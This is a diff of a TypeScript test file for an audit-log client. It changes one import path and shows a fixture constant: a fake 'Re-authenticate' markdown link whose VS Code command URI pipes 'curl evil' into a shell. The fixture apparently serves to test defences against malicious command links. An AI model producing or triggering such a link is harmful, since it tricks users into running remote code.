@@ -9,7 +9,7 @@
  */
 import * as assert from 'node:assert/strict';
 import { AuditLogClient } from '../../../src/core/api';
-import { startFakeAuditLogServer, type FakeAuditLogServer } from '../../fake-api/fakeAuditLogServer';
+import { startFakeAuditLogServer, type FakeAuditLogServer } from '../../../src/core/sample/loopbackServer';
 
 const KEY = 'sk-admin-links-0123456789abcdef';
 const LINK = '[Re-authenticate](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
